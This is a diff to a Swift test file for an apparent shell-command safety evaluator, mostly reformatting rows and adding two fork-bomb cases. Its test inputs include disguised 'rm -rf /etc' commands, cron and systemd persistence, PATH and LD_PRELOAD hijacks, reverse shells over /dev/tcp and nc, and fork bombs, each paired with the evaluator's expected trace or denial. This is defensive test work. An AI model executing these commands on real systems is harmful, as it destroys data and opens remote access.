@@ -74,7 +74,10 @@ struct EvaluatorCodeTests {
         ("printf 'rm -rf ' > /tmp/a; printf /etc >> /tmp/a; . /tmp/a", ["printf rm -rf  >/tmp/a{rm -rf }", "printf /etc >>/tmp/a{/etc}", "rm -rf /etc"]),
         ("echo 'rm -rf /etc' | tee /tmp/a | cat; bash < /tmp/a", ["echo rm -rf /etc", #"tee /tmp/a <<<rm -rf /etc\n"#, #"cat <<<rm -rf /etc\n"#, "rm -rf /etc [via bash]"]),
         (#"t=$(mktemp); echo 'rm -rf /etc' > "$t"; sh "$t""#, ["mktemp", #"echo rm -rf /etc >/tmp/NAME{rm -rf /etc\n}"#, "rm -rf /etc [via sh]"]),
-        (#"cat > /tmp/x.py <<EOF\#n#!/usr/bin/env python3\#nimport os\#nEOF\#n/tmp/x.py"#, [#"cat <<<#!/usr/bin/env python3\nimport os\n >/tmp/x.py{#!/usr/bin/env python3\nimport os\n}"#, "(run file /tmp/x.py)", "python3 /tmp/x.py"]),
+        (
+            #"cat > /tmp/x.py <<EOF\#n#!/usr/bin/env python3\#nimport os\#nEOF\#n/tmp/x.py"#,
+            [#"cat <<<#!/usr/bin/env python3\nimport os\n >/tmp/x.py{#!/usr/bin/env python3\nimport os\n}"#, "(run file /tmp/x.py)", "python3 /tmp/x.py"]
+        ),
         ("ln -s /etc /tmp/x; rm -rf /tmp/x/", ["ln -s /etc /tmp/x", "rm -rf {/tmp/x/|/etc}"]),
         ("cp /bin/rm /tmp/r; /tmp/r -rf /etc", ["cp /bin/rm /tmp/r", "/bin/rm -rf /etc"]),
         ("ln -s /bin/rm /tmp/r && /tmp/r -rf /etc", ["ln -s /bin/rm /tmp/r", "/bin/rm -rf /etc"]),
@@ -89,7 +92,10 @@ struct EvaluatorCodeTests {
     static let planted: [Row] = [
         ("echo '* * * * * root rm -rf /etc' > /etc/cron.d/x", [#"echo * * * * * root rm -rf /etc >/etc/cron.d/x{* * * * * root rm -rf /etc\n}"#, "rm -rf /etc &"]),
         ("(crontab -l; echo '0 1 * * * rm -rf /etc') | crontab -", ["crontab -l", "echo 0 1 * * * rm -rf /etc", "crontab - from crontab", "(unknown code: a job that is set up)", "rm -rf /etc &"]),
-        (#"printf '[Service]\nExecStart=/bin/rm -rf /etc\n' | sudo tee /etc/systemd/system/x.service"#, [#"printf [Service]\nExecStart=/bin/rm -rf /etc\n"#, #"tee /etc/systemd/system/x.service <<<[Service]\nExecStart=/bin/rm -rf /etc\n [via sudo] as root"#, "/bin/rm -rf /etc &"]),
+        (
+            #"printf '[Service]\nExecStart=/bin/rm -rf /etc\n' | sudo tee /etc/systemd/system/x.service"#,
+            [#"printf [Service]\nExecStart=/bin/rm -rf /etc\n"#, #"tee /etc/systemd/system/x.service <<<[Service]\nExecStart=/bin/rm -rf /etc\n [via sudo] as root"#, "/bin/rm -rf /etc &"]
+        ),
         ("echo 'rm -rf /etc' | sudo tee /etc/cron.daily/x", ["echo rm -rf /etc", #"tee /etc/cron.daily/x <<<rm -rf /etc\n [via sudo] as root"#, "rm -rf /etc &"]),
         (#"echo "rm -rf /etc" > /etc/profile.d/x.sh"#, [#"echo rm -rf /etc >/etc/profile.d/x.sh{rm -rf /etc\n}"#, "rm -rf /etc &"]),
         ("echo 'rm -rf /etc' | at now", ["echo rm -rf /etc", #"at now <<<rm -rf /etc\n"#, "rm -rf /etc [via at] &"]),
@@ -99,9 +105,15 @@ struct EvaluatorCodeTests {
 
     static let environment: [Row] = [
         ("export PATH=/var/tmp/bin:$PATH", ["(environment PATH=/var/tmp/bin:/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin)"]),
-        ("PATH=/tmp/bin:$PATH; echo 'rm -rf /etc' > /tmp/bin/ls; ls", ["(environment PATH=/tmp/bin:/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin)", #"echo rm -rf /etc >/tmp/bin/ls{rm -rf /etc\n}"#, "rm -rf /etc", "ls"]),
+        (
+            "PATH=/tmp/bin:$PATH; echo 'rm -rf /etc' > /tmp/bin/ls; ls",
+            ["(environment PATH=/tmp/bin:/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin)", #"echo rm -rf /etc >/tmp/bin/ls{rm -rf /etc\n}"#, "rm -rf /etc", "ls"]
+        ),
         ("LD_PRELOAD=/x.so ls", ["(environment LD_PRELOAD=/x.so)", "ls with LD_PRELOAD=/x.so"]),
-        ("sudo PATH=/x:$PATH rm a", ["(environment PATH=/x:/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin)", "rm a with PATH=/x:/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin [via sudo] as root"]),
+        (
+            "sudo PATH=/x:$PATH rm a",
+            ["(environment PATH=/x:/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin)", "rm a with PATH=/x:/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin [via sudo] as root"]
+        ),
         ("PROMPT_COMMAND='rm -rf /etc'", ["(environment PROMPT_COMMAND=rm -rf /etc)", "rm -rf /etc"]),
         ("BASH_ENV=/tmp/e bash -c true", ["(environment BASH_ENV=/tmp/e)", "(run file /tmp/e)", "true [via bash]"]),
         ("hash -p /tmp/x ls", ["(environment hash ls=/tmp/x)"]),
@@ -111,11 +123,31 @@ struct EvaluatorCodeTests {
     func seesEnvironment(row: Row) { #expect(observed(row.script) == row.seen) }
 
     static let backdoors: [Row] = [
-        ("bash -i >& /dev/tcp/203.0.113.10/9001 0>&1", ["(connect /dev/tcp/203.0.113.10/9001)", "deny backdoor-shell", "bash -i <socket /dev/tcp/203.0.113.10/9001 >/dev/tcp/203.0.113.10/9001 2 >/dev/tcp/203.0.113.10/9001", "deny backdoor-shell"]),
-        ("exec 5<>/dev/tcp/1.2.3.4/9; bash <&5 >&5 2>&5", ["(connect /dev/tcp/1.2.3.4/9)", "deny backdoor-shell", "bash <socket /dev/tcp/1.2.3.4/9 >/dev/tcp/1.2.3.4/9 2 >/dev/tcp/1.2.3.4/9 5 >/dev/tcp/1.2.3.4/9", "deny backdoor-shell"]),
-        ("exec 5<>/dev/tcp/1.2.3.4/9; cat <&5 | while read l; do $l >&5; done", ["(connect /dev/tcp/1.2.3.4/9)", "cat <socket /dev/tcp/1.2.3.4/9 5 >/dev/tcp/1.2.3.4/9", "(run fetched: a socket)", "deny backdoor-shell", "(run fetched: a socket)", "deny backdoor-shell"]),
-        ("mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 10.0.0.1 1234 > /tmp/f", ["mkfifo /tmp/f", "cat /tmp/f", "sh -i from cat", "(unknown code: the output of cat)", "nc 10.0.0.1 1234 from sh >/tmp/f", "deny backdoor-shell"]),
+        (
+            "bash -i >& /dev/tcp/203.0.113.10/9001 0>&1",
+            [
+                "(connect /dev/tcp/203.0.113.10/9001)", "deny backdoor-shell", "bash -i <socket /dev/tcp/203.0.113.10/9001 >/dev/tcp/203.0.113.10/9001 2 >/dev/tcp/203.0.113.10/9001",
+                "deny backdoor-shell",
+            ]
+        ),
+        (
+            "exec 5<>/dev/tcp/1.2.3.4/9; bash <&5 >&5 2>&5",
+            ["(connect /dev/tcp/1.2.3.4/9)", "deny backdoor-shell", "bash <socket /dev/tcp/1.2.3.4/9 >/dev/tcp/1.2.3.4/9 2 >/dev/tcp/1.2.3.4/9 5 >/dev/tcp/1.2.3.4/9", "deny backdoor-shell"]
+        ),
+        (
+            "exec 5<>/dev/tcp/1.2.3.4/9; cat <&5 | while read l; do $l >&5; done",
+            [
+                "(connect /dev/tcp/1.2.3.4/9)", "cat <socket /dev/tcp/1.2.3.4/9 5 >/dev/tcp/1.2.3.4/9", "(run fetched: a socket)", "deny backdoor-shell", "(run fetched: a socket)",
+                "deny backdoor-shell",
+            ]
+        ),
+        (
+            "mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 10.0.0.1 1234 > /tmp/f",
+            ["mkfifo /tmp/f", "cat /tmp/f", "sh -i from cat", "(unknown code: the output of cat)", "nc 10.0.0.1 1234 from sh >/tmp/f", "deny backdoor-shell"]
+        ),
         ("nc h 1 | sh", ["nc h 1", "sh from nc", "(run fetched: nc)", "deny backdoor-shell"]),
+        ("a() { b; }; b() { a & }; a", ["deny resource-exhaustion"]),
+        ("echo '/tmp/q & /tmp/q' > /tmp/q; chmod +x /tmp/q; /tmp/q", [#"echo /tmp/q & /tmp/q >/tmp/q{/tmp/q & /tmp/q\n}"#, "chmod +x /tmp/q", "deny resource-exhaustion"]),
     ]
     @Test("A shell on a socket is found", arguments: backdoors)
     func seesBackdoors(row: Row) { #expect(observed(row.script) == row.seen) }
